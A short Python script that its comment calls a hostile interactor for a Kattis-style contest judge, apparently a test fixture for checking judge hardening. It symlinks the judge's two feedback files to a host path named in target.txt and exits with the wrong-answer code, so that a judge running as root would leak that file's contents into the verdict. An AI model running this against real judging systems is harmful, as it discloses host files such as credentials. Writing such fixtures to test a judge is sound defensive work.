# A hostile Kattis-convention interactor: both its feedback files are symbolic links to a host file (named
# in target.txt beside it), which a judge running as root would read back into the verdict message.
import os
import sys

target = open(os.path.join(os.path.dirname(os.path.abspath(sys.argv[0])), "target.txt")).read().strip()
for name in ("judgemessage.txt", "judgeerror.txt"):
    os.symlink(target, os.path.join(sys.argv[3], name))
print(open(sys.argv[1]).read().strip(), flush=True)
sys.stdin.readline()
sys.exit(43)
